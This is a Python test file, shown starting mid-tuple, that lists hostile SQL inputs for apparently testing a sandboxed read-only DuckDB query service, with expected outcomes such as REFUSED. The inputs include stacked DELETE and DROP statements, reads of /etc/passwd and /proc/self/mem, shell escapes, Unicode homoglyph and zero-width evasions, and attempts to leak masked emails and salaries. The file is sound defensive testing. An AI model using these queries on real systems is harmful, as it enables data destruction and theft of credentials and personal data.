    "SELECT x" + ".a" * 40_000 + " FROM (SELECT 1 AS x)",
    "SELECT 1" + " + 1" * 20_000 + " " * 20_000 + "FROM nothing",
    "SELECT " + _nested("CAST(", "1", " AS INTEGER)", 5_000),
    "SELECT NULL::" + _nested("STRUCT(a ", "INTEGER", ")", 8_000),
    "SELECT NULL::INTEGER" + "[]" * 40_000,
    "SELECT " + _nested("list_transform([1], lambda x: ", "1", ")", 2_500),
    "SELECT 1 FROM flights.legs WHERE " + _nested("EXISTS (SELECT 1 WHERE ", "true", ")", 3_500),
    _nested("WITH t AS (", "SELECT 1", ") FROM t", 4_000),
    _nested("WITH RECURSIVE t AS (SELECT 1 UNION ALL (", "SELECT 1", ")) FROM t", 1_500),
    _nested("(SELECT 1 UNION ALL ", "SELECT 1", ")", 3_500),
)  # fmt: skip

_GIANTS = _list(
    "giants", STOPPED,
    "SELECT '" + "x" * 200_000 + "'",
    "SELECT 1" + " + 1" * 60_000,
    "SELECT " + ", ".join(["1"] * 60_000),
    "SELECT" + " " * 150_000 + "1",
    "SELECT /*" + "x" * 150_000 + "*/ 1",
    "SELECT 1 --" + "x" * 150_000 + "\n+ 1",
    "SELECT 1 IN (" + ", ".join(map(str, range(40_000))) + ")",
    "SELECT " + "9" * 150_000,
    "SELECT 1 AS \"" + "x" * 150_000 + "\"",
    "SELECT $$" + "x" * 150_000 + "$$",
    "SELECT '" + "é" * 90_000 + "'",
    "FROM (VALUES " + ", ".join(["(1)"] * 50_000) + ")",
    "SELECT 1" + " UNION ALL SELECT 1" * 10_000,
    "SELECT 1 FROM flights.legs" + ", flights.legs" * 10_000,
    "SELECT '" + "x" * 10_000_000 + "'",
    *(f"WITH {', '.join(f'c{i} AS (SELECT 1)' for i in range(n))} SELECT 1" for n in (8_000,)),
)  # fmt: skip

_SEVERAL = (
    *_list(
        "several statements", REFUSED,
        "SELECT 1; SELECT 2",
        "SELECT 1; DELETE FROM flights.legs",
        "SELECT 1; DROP VIEW flights.legs;",
        ";DELETE FROM flights.legs",
        ";;;SELECT 1;;; COPY flights.legs TO 'legs.csv';;;",
        "BEGIN; DELETE FROM flights.legs; COMMIT",
        "SELECT 1\n;\nATTACH 'new.duckdb'",
        "SELECT 1 /* ; */ ; SET threads = 4",
        "SELECT 1 -- ;\n; SET threads = 4",
        "SELECT 1 --\r\n; SET threads = 4",
        "SELECT 'it''s; fine'; SET threads = 4",
        "SELECT \"a;\"\"b\" FROM (SELECT 1 AS \"a;\"\"b\"); SET threads = 4",
        "SELECT $$;$$; SET threads = 4",
        "SELECT $a$ ' $$ ; $a$; SET threads = 4",
        "SELECT e'\\\\'; SET threads = 4; --'",
        "SELECT 'a\\'; SET threads = 4; --'",
        "\ufeffSELECT 1; SET threads = 4",
        "SELECT 1;\u00a0SET threads = 4",
        "SELECT 1;\u3000DELETE FROM flights.legs",
        "PIVOT flights.legs ON carrier USING count(*); SET threads = 4",
        "SELECT 1; PIVOT flights.legs ON carrier USING count(*)",
        "PIVOT flights.legs ON carrier USING count(*); PIVOT flights.legs ON carrier USING count(*)",
        "CREATE TYPE mood AS ENUM (SELECT carrier FROM flights.legs); PIVOT flights.legs ON carrier USING count(*)",
        "EXPLAIN SELECT 1; SET threads = 4",
        "; ".join(["SELECT 1"] * 2_000),
    ),
    *_list(
        "several statements", ANY,
        "SELECT 1 --\r; SET threads = 4\nFROM nothing",
        "SELECT 1 --\u2028; SET threads = 4\nFROM nothing",
        "SELECT 1\x00; SET threads = 4",
        "SELECT 1; \x00",
        "SELECT 1; nonsense",
        ";",
        "",
        "   \n\t",
        "-- nothing",
        "/* nothing */",
    ),
)  # fmt: skip

_TRICKS = (
    # Spaces that DuckDB takes for spaces, and comments where it takes them.
    *_list(
        "tricks", REFUSED,
        "FROM\u00a0read_text('/etc/passwd')",
        "DELETE\u2003FROM\u2003flights.legs",
        "FROM/**/read_text/**/(/**/'/etc/passwd'/**/)",
        "SELECT * FROM -- a comment\nread_text -- another\n('/etc/passwd')",
        "/* SELECT 1 */ DELETE FROM flights.legs",
        "-- SELECT 1\nDELETE FROM flights.legs",
        "-- SELECT 1\rDELETE FROM flights.legs\n\nRETURNING *",
        "\ufeffDELETE FROM flights.legs",
        "\ufeffFROM read_text('/etc/passwd')",
        "dElEtE\tfRoM\nfLiGhTs.LeGs",
        "FROM rEaD_tExT('/etc/passwd')",
        "FROM\u200bread_text('/etc/passwd')",
        "FROM read_text\u2060('/etc/passwd')",
        "FROM read_text('/etc/passwd\x00.parquet')",  # the file's name ends at the NUL
        "SELECT '\x00'; DELETE FROM flights.legs",
        "(FROM read_text('/etc/passwd'))",
        "((((FROM '/etc/passwd'))))",
        "SELECT \"current_setting\"('allowed_paths')",
        "SELECT CURRENT_SETTING('allowed_paths')",
        "SELECT main.current_setting('allowed_paths')",
        "SELECT system.main.current_setting('allowed_paths')",
        "SELECT 'allowed_paths'.current_setting()",
        "SELECT ('temp_directory').current_setting().upper()",
    ),
    *_list(
        "tricks", ANY,
        "FROM U&'\\002Fetc\\002Fpasswd'",
        "FROM U&\"read_text\"('/etc/passwd')",
        "FROM $$/etc/passwd$$",
        "SELECT list_transform(['/etc/passwd'], lambda p: (FROM read_text(p) SELECT content))",
        "FROM (DELETE FROM flights.legs RETURNING *)",
        "WITH RECURSIVE made AS (DELETE FROM flights.legs RETURNING *) FROM made",
        "WITH made AS (MERGE INTO planes.planes p USING flights.legs l ON false WHEN MATCHED THEN DELETE) FROM made",
        "WITH made AS (CREATE TABLE t AS SELECT 1) SELECT 1",
        "WITH made AS (SET threads = 4) SELECT 1",
        "WITH made AS (ATTACH 'new.duckdb') SELECT 1",
        "CREATE DATABASE mine",
        "RESET ALL",
        "ＳＥＬＥＣＴ * ＦＲＯＭ '/etc/passwd'",
        "DELETE FRОM flights.legs",  # a Cyrillic O
        "DΕLETE FROM flights.legs",  # a Greek E
        "FROM rеad_text('/etc/passwd')",  # a Cyrillic e
        "DEL\u200bETE FROM flights.legs",
        "DEL\u00adETE FROM flights.legs",
        "FROM read\u200b_text('/etc/passwd')",
        "\u202eDELETE FROM flights.legs",
        "SELECT * FROM flights.legs WHERE carrier = \u2019x\u2019; DELETE FROM flights.legs",
        "SELECT 1 /* */ */ ; DELETE FROM flights.legs",
        "DEL/**/ETE FROM flights.legs",
        "SELECT 1 /* never closed; DELETE FROM flights.legs",
        "SELECT 'never closed; DELETE FROM flights.legs",
        "SELECT \"never closed FROM flights.legs",
        "SELECT $$never closed; DELETE FROM flights.legs",
        "SELECT $a$ never $b$ closed $A$",
        "SELECT e'never closed\\'",
        "SEL\x00ECT 1",
        "\x00",
        "FROM '/etc/passwd\u2028'",
        "DELETE\u2028FROM\u2028flights.legs",
        "SELECT 1\u037e DELETE FROM flights.legs",  # a Greek question mark
        "\ud83d\ude00",
        "SELECT '\udc80'",
        "!cat /etc/passwd",
        ".shell cat /etc/passwd",
        ".read /etc/passwd",
        ".open samples/types.duckdb",
        "\\! cat /etc/passwd",
        "\\copy flights.legs TO 'legs.csv'",
        "SELECT ?",
        "SELECT $1",
        "SELECT $name",
        "FROM read_text($1)",
        "FROM IDENTIFIER('/etc/passwd')",
        "SELECT load_file('/etc/passwd')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT system('cat /etc/passwd')",
        "DO $$ BEGIN DELETE FROM flights.legs; END $$",
        "LOCK TABLE flights.legs",
        "GRANT ALL ON flights.legs TO public",
        "CREATE EXTENSION httpfs",
        "CREATE USER mine",
        "LISTEN mine",
        "KILL 1",
        "SELECT * INTO t FROM flights.legs",
        "SELECT * FROM flights.legs FOR UPDATE",
    ),
)  # fmt: skip

_SHADOWS = (
    *_block("shadows", REFUSED, """
CREATE TEMP VIEW legs AS SELECT 42 AS answer
CREATE OR REPLACE TEMP VIEW legs AS SELECT 42 AS answer
CREATE TEMP VIEW "flights.legs" AS SELECT 42 AS answer
CREATE TEMP TABLE legs AS SELECT 42 AS answer
CREATE TEMP TABLE IF NOT EXISTS legs (a INTEGER)
CREATE MACRO count(x) AS 42
CREATE OR REPLACE MACRO count(x) AS 42
CREATE TEMP MACRO sum(x) AS 42
CREATE OR REPLACE TEMPORARY MACRO lower(x) AS 'x'
CREATE MACRO range(x) AS TABLE SELECT 42
CREATE FUNCTION main.abs(x) AS 42
CREATE OR REPLACE MACRO flights.legs() AS TABLE SELECT 42
CREATE TEMP SEQUENCE numbers
CREATE TEMP TYPE mood AS ENUM ('good')
PREPARE q AS FROM flights.legs
PREPARE q AS DELETE FROM flights.legs
EXECUTE q
EXECUTE q(1, 2)
DEALLOCATE q
DEALLOCATE PREPARE q
BEGIN
BEGIN TRANSACTION
BEGIN TRANSACTION READ ONLY
START TRANSACTION
COMMIT
ROLLBACK
ABORT
END
DROP MACRO count
ALTER DATABASE memory SET ALIAS TO mine
"""),
    *_block("shadows", ANY, """
DECLARE c CURSOR FOR FROM flights.legs
FETCH ALL FROM c
SAVEPOINT s
ALTER ROLE mine
CREATE RULE r AS ON SELECT TO flights.legs DO INSTEAD SELECT 42
"""),
)  # fmt: skip

_MASKED = (
    *_block("masked", REFUSED, """
SELECT email FROM 'samples/people.parquet'
SELECT salary FROM read_parquet('samples/people.parquet')
SELECT p.id, f.email FROM people.people p JOIN 'samples/people.parquet' f ON p.id = f.id
SELECT email FROM people.people UNION ALL SELECT email FROM 'samples/people.parquet'
SELECT stats_min, stats_max FROM parquet_metadata('samples/people.parquet') WHERE path_in_schema = 'salary'
SELECT stats_min_value FROM parquet_metadata('/proc/self/fd/3')
SELECT decode(content) FROM read_blob('samples/people.parquet')
SELECT regexp_extract_all(content::VARCHAR, 'CANARY[^ ]*') FROM read_blob('/proc/self/fd/5')
SELECT content FROM read_text('/proc/self/mem')
FROM pragma_storage_info('people')
SELECT * FROM pragma_storage_info('people.people') WHERE column_name = 'email'
SELECT sql FROM duckdb_views() WHERE schema_name = 'people'
FROM duckdb_table_sample('people')
COPY (SELECT email FROM people.people) TO 'emails.csv'
CREATE TEMP TABLE mine AS SELECT email FROM people.people
CREATE MACRO seen() AS TABLE SELECT email FROM people.people
PREPARE q AS SELECT email FROM people.people WHERE id = ?
SET VARIABLE seen = (SELECT list(email) FROM people.people)
EXPORT DATABASE 'people'
"""),
)  # fmt: skip

# Much of it, and yet a fair question: the answer is cut, or the clock stops it.
CUT: tuple[str, ...] = (
    "FROM range(1000000000)",
    "FROM range(1000001) ORDER BY range DESC",
    "SELECT unnest(range(1000000)) AS n",
    "SELECT a.distance FROM flights.legs a, flights.legs b",
    "FROM flights.legs a, flights.legs b",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 20000) FROM t",
    "SELECT repeat('x', 1000000) AS long",
    "SELECT repeat('x', 10000) AS long FROM range(5000)",
    "SELECT range(1000000) AS long",
    "SELECT encode(repeat('é', 1000000)) AS long",
    "SELECT "
    + ", ".join(f"repeat('x', 20000) AS c{i}" for i in range(1_000))
    + " FROM range(1000)",
    "SELECT " + ", ".join(f"{i} AS c{i}" for i in range(7_000)) + " FROM range(2000)",
    "SELECT json_structure(repeat('[', 1000000) || repeat(']', 1000000))",
    "SELECT json_merge_patch(repeat('{\"a\":', 100000) || '1' || repeat('}', 100000), '{}')",
    "PIVOT (SELECT range AS n FROM range(20000)) ON n USING count(*)",
    "SELECT '" + "x" * 99_000 + "' AS long",
    'SELECT 1 AS "' + "x" * 90_000 + '" FROM range(2000)',
)


# Aggregates and comparisons: one row each.
_ONE_ROW: tuple[tuple[Any, ...], ...] = (
    ("SELECT count(email), count(salary), count(*) FROM people.people", 0, 0, len(PEOPLE)),
    ("SELECT min(email), max(email), min(salary), max(salary) FROM people.people", *[None] * 4),
    ("SELECT sum(salary), avg(salary), median(salary), stddev(salary) FROM people.people", *[None] * 4),
    ("SELECT mode(email), any_value(email), first(salary), arg_max(email, id) FROM people.people", *[None] * 4),
    ("SELECT arg_min(id, salary), max_by(name, email), corr(id, salary) FROM people.people", *[None] * 3),
    ("SELECT string_agg(email, ','), list(email) FILTER (email IS NOT NULL) FROM people.people", None, None),
    ("SELECT histogram(salary), approx_count_distinct(email), entropy(email) FROM people.people", None, 0, 0.0),
    ("SELECT quantile_disc(salary, [0.1, 0.9]), approx_quantile(salary, 0.5) FROM people.people", None, None),
    ("SELECT bit_xor(salary), product(salary), bool_or(salary > 0) FROM people.people", *[None] * 3),
    ("SELECT count(*) FROM people.people WHERE email LIKE 'C%'", 0),
    ("SELECT count(*) FROM people.people WHERE email IS NOT NULL", 0),
    ("SELECT count(*) FROM people.people WHERE salary BETWEEN 900000000 AND 999999999", 0),
    ("SELECT count(*) FROM people.people WHERE salary > 1 OR salary <= 1", 0),
    ("SELECT count(*) FROM people.people WHERE regexp_matches(email, '.')", 0),
    ("SELECT count(*) FROM people.people WHERE length(email) > 0 OR ascii(email) > 0", 0),
    ("SELECT count(*) FROM people.people WHERE coalesce(email, 'x') <> 'x'", 0),
    ("SELECT count(*) FROM people.people WHERE email IS DISTINCT FROM NULL", 0),
    ("SELECT count(*) FROM people.people a JOIN people.people b ON a.email = b.email", 0),
    ("SELECT count(*) FROM people.people a JOIN people.people b USING (salary)", 0),
    ("SELECT count(*) FROM people.people NATURAL JOIN (SELECT salary FROM people.people)", 0),
    ("SELECT count(*) FROM people.people a JOIN range(987650000, 987650030) r ON a.salary = r.range", 0),
    ("SELECT count(*) FROM people.people a ASOF JOIN people.people b ON a.salary >= b.salary", 0),
    ("SELECT count(*) FROM people.people WHERE salary IN (SELECT salary FROM people.people)", 0),
    ("SELECT count(*) FROM (SELECT email FROM people.people INTERSECT SELECT '' || id FROM people.people)", 0),
    ("SELECT count(DISTINCT hash(email)), count(DISTINCT md5(email)) FROM people.people", 1, 0),
    ("SELECT max(error(email)) FROM people.people", None),
    ("SELECT max(1 // salary), max(CAST(email AS INTEGER)), max(CAST(email AS DATE)) FROM people.people", *[None] * 3),
    ("SELECT max(CASE WHEN email LIKE 'C%' THEN error('seen') ELSE 'unseen' END) FROM people.people", "unseen"),
    ("SELECT max(if(salary > 5, error('seen'), 1)) FROM people.people", 1),
    ("SELECT list_aggregate(list(salary), 'max'), len(list(email)) FROM people.people", None, len(PEOPLE)),
    ("SELECT count(people.people.email), count(people.email) FROM people.people", 0, 0),
    ("SELECT max(struct_pack(e := email).e), max((people).salary) FROM people.people", None, None),
    ("SELECT max(to_json(people) ->> 'email'), max(to_json(p)) IS NULL FROM people.people, (SELECT NULL AS p)", None, True),
    ("WITH t AS MATERIALIZED (FROM people.people) SELECT max(email), max(salary) FROM t", None, None),
    ("SELECT max(e), max(s) FROM (FROM people.people) t(i, n, e, s, c)", None, None),
    ("SELECT (SELECT max(email) FROM people.people), (SELECT max(salary) FROM people.people)", None, None),
    ("SELECT max(x.email) FROM flights.legs, LATERAL (SELECT email FROM people.people WHERE id < distance) x", None),
    ("SELECT count(*) FROM (PIVOT people.people ON email IN ('CANARY'.lower()) USING count(*))", len(PEOPLE)),
    ("SELECT max(s), max(r) FROM (SELECT lag(salary) OVER (ORDER BY salary) AS s, rank() OVER (ORDER BY email) AS r FROM people.people)", None, 1),
)  # fmt: skip


def _masked() -> Iterator[Masked]:
    """Every way to read what reads as NULL."""
    nulls = tuple((p.id, None, None) for p in PEOPLE)
    many = len(PEOPLE)
    yield Masked("SELECT id, email, salary FROM people.people ORDER BY id", nulls)
    yield Masked("SELECT * EXCLUDE (name, city) FROM people.people ORDER BY id", nulls)
    yield Masked("SELECT id, COLUMNS('em.*|sal.*') FROM people.people ORDER BY id", nulls)
    yield Masked("SELECT DISTINCT p.email, p.salary FROM people.people AS p", ((None, None),))
    yield Masked('SELECT "email", "SALARY" FROM PEOPLE.People LIMIT 1', ((None, None),))
    yield from (Masked(sql, (tuple(row),)) for sql, *row in _ONE_ROW)
    yield Masked("SELECT value FROM (UNPIVOT people.people ON email)", ())
    yield Masked("SELECT value FROM (UNPIVOT people.people ON COLUMNS('sal.*'))", ())
    yield Masked("SELECT name FROM people.people ORDER BY salary DESC, id LIMIT 3",
                 tuple((p.name,) for p in PEOPLE[:3]))  # fmt: skip
    yield Masked("SELECT id FROM people.people WHERE id < 4 ORDER BY email DESC, salary, id DESC",
                 ((3,), (2,), (1,)))  # fmt: skip
    yield Masked("SELECT email, count(*) FROM people.people GROUP BY ALL", ((None, many),))
    yield Masked("SELECT salary % 10, count(*) FROM people.people GROUP BY 1", ((None, many),))
    yield Masked("SELECT DISTINCT ON (email) id FROM people.people ORDER BY email, id", ((1,),))
    yield Masked(
        "SELECT DISTINCT row_number() OVER (PARTITION BY salary ORDER BY id) = id FROM people.people",
        ((True,),),
    )
    for sql in (
        "SUMMARIZE people.people",
        "SELECT min, max, avg, q50 FROM (SUMMARIZE people.people) WHERE column_name = 'salary'",
        "DESCRIBE people.people",
        "EXPLAIN FROM people.people",
        "EXPLAIN ANALYZE SELECT max(email) FROM people.people",
        "EXPLAIN ANALYZE SELECT id FROM people.people WHERE salary > 987650010",
        "EXPLAIN (FORMAT json) SELECT email FROM people.people WHERE email LIKE 'x%'",
        "FROM people.people",
        "FROM people.people USING SAMPLE 5",
        "FROM people.people TABLESAMPLE reservoir(20)",
        "SELECT people FROM people.people",
        "SELECT to_json(people) FROM people.people",
        "SELECT {'a': email, 'b': [salary]} FROM people.people",
        "SELECT rowid, email FROM people.people",
        "PIVOT people.people ON email USING count(*)",
        "PIVOT people.people ON city USING max(email), sum(salary)",
        "UNPIVOT people.people ON email, name",
        "UNPIVOT people.people ON COLUMNS(* EXCLUDE (id, salary)) INTO NAME n VALUE v",
        "FROM histogram(people.people, salary)",
        "SELECT * FROM people.people p POSITIONAL JOIN flights.legs",
        "SELECT lower(email)::INTEGER FROM people.people",
        "SELECT CAST(email || 'x' AS INTEGER) FROM people.people",
        "SELECT email::UUID, email::JSON, strptime(email, '%Y'), salary::UTINYINT FROM people.people",
        "SELECT error(email) FROM people.people",
        "SELECT email.nothing FROM people.people",
        "SELECT emial FROM people.people",
        "SELECT salary + name FROM people.people",
        "SELECT name::INTEGER FROM people.people",
        "SELECT substr(email, 1, generate_series) FROM people.people, generate_series(1, 30)",
        "SELECT bit_length(email), unicode(email), octet_length(email::BLOB) FROM people.people",
        "SELECT approx_top_k(email, 5), reservoir_quantile(salary, 0.5) FROM people.people",
        "SELECT stats(email), stats(salary) FROM people.people",
        "SELECT create_sort_key(email, 'ASC NULLS LAST') FROM people.people",
        "SHOW TABLES",
        "SHOW people.people",
    ):
        yield Masked(sql)


MASKED: tuple[Masked, ...] = tuple(_masked())

HOSTILE: tuple[Hostile, ...] = (
    *_FILES,
    *_NETWORK,
    *_WRITES,
    *_WRITES_WITHIN,
    *_COPY,
    *_ATTACH,
    *_SETTINGS,
    *_EXTENSIONS,
    *_LEAKS,
    *_MEMORY,
    *_CPU,
    *_NESTING,
    *_GIANTS,
    *_SEVERAL,
    *_TRICKS,
    *_SHADOWS,
    *_MASKED,
)
